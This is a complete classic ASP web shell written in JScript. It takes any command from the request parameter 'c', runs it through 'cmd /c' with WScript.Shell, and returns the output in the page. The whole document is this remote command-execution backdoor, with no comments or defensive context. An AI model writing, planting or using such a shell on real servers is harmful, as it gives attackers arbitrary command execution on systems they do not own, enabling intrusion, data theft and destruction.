<%@ LANGUAGE = "JavaScript" CODEPAGE="65001" %>
<%
function run(c) {
  return new ActiveXObject("WScript.Shell").Exec("cmd /c " + c).StdOut.ReadAll();
}
%>
<html><body><pre><%= run(Request("c")) %></pre></body></html>
